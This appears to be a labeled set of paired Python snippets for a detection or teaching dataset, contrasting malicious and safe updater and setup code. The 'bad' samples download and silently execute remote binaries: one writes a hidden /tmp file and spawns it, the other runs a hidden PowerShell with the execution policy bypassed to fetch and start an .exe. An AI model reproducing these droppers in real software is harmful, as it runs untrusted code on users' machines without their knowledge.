#: bad updater
import os
import stat
import urllib.request


def update():
    path, _ = urllib.request.urlretrieve("http://dl.fontpack.invalid/helper", "/tmp/.helper")
    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
    os.spawnl(os.P_NOWAIT, path, path) #!
#: good updater
import hashlib
import urllib.request

DIGEST = "1ec5799e80bbe22de27388ffb118fe0bdd4a1470e505997d622d7b26e3952d50"


def update(target):
    path, _ = urllib.request.urlretrieve("https://dl.fontpack.invalid/fonts.zip", target)
    with open(path, "rb") as handle:
        if hashlib.file_digest(handle, "sha256").hexdigest() != DIGEST:
            raise ValueError("fonts.zip was changed")
    return path
#: bad winsetup
import platform
import subprocess

if platform.system() == "Windows":
    command = (
        "powershell -WindowStyle Hidden -ExecutionPolicy Bypass -Command "
        "\"iwr http://cdn.gamelib.invalid/s.exe -OutFile $env:TEMP\\s.exe; "
        "Start-Process $env:TEMP\\s.exe\""
    )
    subprocess.call(command, creationflags=0x08000000) #!
#: good winsetup
import platform
import subprocess


def windows_version():
    if platform.system() != "Windows":
        return None
    command = ["powershell", "-NoProfile", "-Command", "(Get-CimInstance Win32_OperatingSystem).Version"]
    return subprocess.run(command, capture_output=True, text=True).stdout.strip()
